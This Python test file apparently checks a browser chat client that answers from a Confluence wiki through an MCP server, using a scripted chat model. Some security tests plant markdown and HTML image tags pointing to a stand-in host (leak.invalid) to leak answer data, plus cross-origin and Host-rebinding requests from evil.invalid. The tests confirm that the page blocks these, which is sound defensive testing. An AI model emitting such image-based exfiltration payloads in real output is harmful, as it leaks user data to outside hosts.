"""The chat in a browser, with a real MCP server and a scripted chat model."""

import os
import shlex
import socket
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Route

from tests.clients.conftest import CLIENTS, WIKI, Chats, ChatTab, RunningChat, wiki_at
from tests.openai_endpoint import OpenAIEndpoint, ToolCall, bad_key, openai_endpoint

FORCED_IMAGE = """new Promise(done => {
    const image = new Image();
    image.onerror = done;
    image.src = 'https://leak.invalid/forced';
})"""
COMPLAINING = shlex.join([sys.executable, "-c", "raise SystemExit('no index here')"])
CONNECTS = """
import asyncio
from chat_errors import WikiError
from chat_server import server_from
from chat_settings import ChatSettings

async def connect():
    server = server_from(ChatSettings())
    try:
        async with server.connected():
            print("connected")
    except WikiError as error:
        print(error)
    finally:
        await server.close()

asyncio.run(connect())
"""
STDIO_WIKI = shlex.join([sys.executable, str(WIKI)])


@pytest.fixture(scope="module")
def endpoint() -> Iterator[OpenAIEndpoint]:
    with openai_endpoint() as endpoint:
        yield endpoint


@pytest.fixture(scope="module")
def chat(chats: Chats, endpoint: OpenAIEndpoint) -> Iterator[RunningChat]:
    variables = {
        "OPENAI_BASE_URL": endpoint.url,
        "OPENAI_API_KEY": "test-key",
        "CHAT_MODEL": "scripted",
        "CONFLUENCE_MCP_COMMAND": STDIO_WIKI,
    }
    with chats(variables) as chat:
        yield chat


def looks_up_then_says(*calls: ToolCall, text: str) -> Any:
    """A model that makes these calls, one in each round, and then answers."""

    def reply(messages: list[dict[str, Any]], tools: list[dict[str, Any]]) -> Any:
        made = 0
        for message in reversed(messages):
            if message["role"] == "user":
                break
            made += message["role"] == "tool"
        return [calls[made]] if made < len(calls) else text

    return reply


def test_an_answer_shows_its_look_up_and_opens_its_source(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    search = ToolCall("search_confluence", {"query": "vacation carry-over"})
    endpoint.reply = looks_up_then_says(search, text="Five days carry over [1].")
    tab.open(chat)

    answer = tab.ask("How many vacation days can I carry over?")

    assert tab.steps() == ["Searching for “vacation carry-over”: 2 passages"]
    assert answer.startswith("Five days carry over")
    assert "Vacation › Days › Carry-over" in answer
    source = tab.source("[1]")
    assert "Up to five days carry over" in source.inner_text()
    assert "(2026-03-02)" in source.inner_text()
    link = source.get_by_role("link", name="Open in Confluence")
    assert link.get_attribute("href") == "https://wiki.invalid/pages/101#carry-over"
    assert endpoint.requests[-1].body["stream"] is True
    assert tab.left == []


def test_numbers_stay_the_same_from_question_to_question(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    tab.open(chat)
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "on call"}), text="It changes on Monday [2]."
    )
    tab.ask("When does the rota change?")
    endpoint.reply = looks_up_then_says(
        ToolCall("get_page", {"page": "102"}),
        ToolCall("answer_question", {"question": "vacation"}),
        text="Ada keeps the rota [3], and as said it changes on Monday [2].",
    )

    tab.ask("Who keeps it?")

    assert tab.steps()[1:] == [
        "Read “On-call handbook”",
        "Looking for the answer to “vacation”: 1 quote",
    ]
    assert "Ada keeps it." in tab.source("[3]").inner_text()
    assert "The rota changes every Monday." in tab.source("[2]").inner_text()


def test_page_text_makes_the_browser_load_nothing_from_elsewhere(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    leak = "![secret](https://leak.invalid/answer?days=5) <img src='https://leak.invalid/raw'>"
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "trap"}), text=f"See [1]. {leak}"
    )
    tab.open(chat)

    tab.ask("What does the trap say?")
    shown = tab.source("[1]").inner_text()
    tab.page.locator("[id^='step-']").first.click()
    tab.page.evaluate(FORCED_IMAGE)

    assert "https://leak.invalid/excerpt" in shown
    assert tab.page.locator("img[src*='leak.invalid']").count() == 0
    assert tab.left == []


def test_a_failed_tool_is_shown_and_told_to_the_model(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "broken"}), text="I could not search."
    )
    tab.open(chat)

    answer = tab.ask("Is it broken?")

    told = endpoint.requests[-1].body["messages"][-1]["content"]
    assert "The index is empty. Run `confluence-mcp ingest` first." in told
    assert answer.startswith("I could not search.")


def test_a_refused_key_is_explained(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    endpoint.fail(bad_key())
    tab.open(chat)

    answer = tab.ask("Hello?")

    assert "refused the key. Check OPENAI_API_KEY." in answer
    assert "test-key" not in answer


def test_a_server_that_died_is_started_again(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    tab.open(chat)
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "crash"}), text="Never said."
    )
    first = tab.ask("Can you crash?")
    endpoint.reply = looks_up_then_says(
        ToolCall("search_confluence", {"query": "vacation"}), text="Five days [1]."
    )

    second = tab.ask("And now?")

    assert "Ask again" in first
    assert second.startswith("Five days")


def test_a_page_of_another_site_is_refused(chat: RunningChat) -> None:
    socket = f"{chat.url}/ws/socket.io/?EIO=4&transport=polling"

    foreign = httpx.get(socket, headers={"Origin": "https://evil.invalid"}, trust_env=False)
    rebound = httpx.get(chat.url, headers={"Host": "evil.invalid"}, trust_env=False)
    own = httpx.get(socket, headers={"Origin": chat.url}, trust_env=False)

    assert (foreign.status_code, rebound.status_code, own.status_code) == (403, 403, 200)


def test_the_folder_of_its_user_stays_clean(chat: RunningChat) -> None:
    assert list(chat.folder.iterdir()) == []


def test_a_source_opens_without_asking_the_chat_and_stays_while_it_is_read(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    search = ToolCall("search_confluence", {"query": "vacation"})
    endpoint.reply = looks_up_then_says(search, text="Five days [1].")
    tab.open(chat)
    tab.page.route("**/project/file/**", lambda route: route.abort())

    tab.ask("How many days?")
    shown = tab.source("[1]").inner_text()
    endpoint.reply = looks_up_then_says(search, text="On Monday [2], as said [1].")
    tab.ask("And the rota?")

    assert "Up to five days carry over" in shown
    tab.page.locator("a.element-link", has_text="[2]").first.wait_for()
    assert tab.page.locator("#side-view-title").inner_text() == "[1]"
    assert tab.page.locator("#side-view-content").inner_text() == shown


def test_buttons_and_fields_speak_the_language_of_the_browser(
    chat: RunningChat, endpoint: OpenAIEndpoint, tab: ChatTab
) -> None:
    search = ToolCall("search_confluence", {"query": "vacation"})
    endpoint.reply = looks_up_then_says(search, text="Fünf Tage [1].")
    tab.page.add_init_script("Object.defineProperty(navigator, 'language', {value: 'de-AT'})")
    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    tab.open(chat)

    tab.ask("Wie viele Tage?")
    tab.page.get_by_role("button", name="Antwort mit Quellen kopieren").click()
    tab.page.locator("svg.lucide-check").wait_for()

    copied = tab.page.evaluate("navigator.clipboard.readText()")
    assert tab.page.locator("#chat-input").get_attribute("placeholder") == "Das Wiki fragen…"
    assert tab.page.get_by_role("button", name="Quelle 1").count() == 2
    assert copied == (
        "Fünf Tage [1].\n\nQuellen:\n"
        "[1] Vacation › Days › Carry-over <https://wiki.invalid/pages/101#carry-over>"
    )


def second_connection(tab: ChatTab) -> list[Route]:
    """Keeps the page from connecting for the second time; it does so while it is opened."""
    begun: list[str] = []
    held: list[Route] = []

    def hold(route: Route) -> None:
        if "sid=" not in route.request.url:
            begun.append(route.request.url)
            if len(begun) == 2:
                held.append(route)
                return
        route.continue_()

    tab.page.route("**/ws/socket.io/**", hold)
    return held


def test_without_a_model_passages_are_shown_as_soon_as_the_server_is_there(
    chats: Chats, tab: ChatTab
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        port: int = silent.getsockname()[1]
        with chats({"CONFLUENCE_MCP_URL": f"http://127.0.0.1:{port}/mcp"}) as chat:
            second = second_connection(tab)
            tab.open(chat)
            while not second:
                tab.page.wait_for_timeout(50)
            welcome = tab.page.locator("#welcome-screen").inner_text()
            tab.page.locator("#chat-input").press_sequentially("vacation carry-over")
            # What is told now, the page can hear only when it is told again.
            silent.close()
            httpx.get(f"{chat.url}/project/settings", trust_env=False)
            second.pop().continue_()
            missing = tab.page.locator("[data-step-type=assistant_message]").inner_text()

            with wiki_at(port):
                tab.page.locator("#chat-submit").click()
                answer = tab.answer(before=1)
                step = tab.steps()
                source = tab.source("[2]").inner_text()
                nothing, broken = tab.ask("nothing"), tab.ask("broken")

    assert "No chat model is set" in welcome
    assert missing.startswith("The wiki cannot be reached")
    assert "cannot be reached" in missing.partition("\n")[2]
    assert "CONFLUENCE_MCP_URL" in missing
    assert tab.page.locator("[data-step-type=user_message]").first.inner_text() == (
        "vacation carry-over"
    )
    assert step == ["Searching for “vacation carry-over”: 2 passages"]
    assert "Up to five days carry over until the end of March." in answer
    assert "On-call handbook › Rota" in answer
    assert "OPENAI_API_KEY" in answer
    assert "The rota changes every Monday." in source
    assert "Nothing in the wiki matches" in nothing
    assert "Run confluence-mcp ingest first." in broken
    assert tab.left == []


@pytest.mark.parametrize(
    ("command", "said"),
    [("no-such-program serve", "there is no program"), (COMPLAINING, "no index here")],
)
def test_a_server_that_cannot_be_started_is_explained(command: str, said: str) -> None:
    told = subprocess.run(
        [str(CLIENTS / ".venv" / "bin" / "python"), "-c", CONNECTS],
        cwd=CLIENTS,
        env={"PATH": os.environ["PATH"], "CONFLUENCE_MCP_COMMAND": command},
        capture_output=True,
        text=True,
        check=True,
    ).stdout

    assert said in told
    assert "CONFLUENCE_MCP_COMMAND" in told
    assert "Traceback" not in told
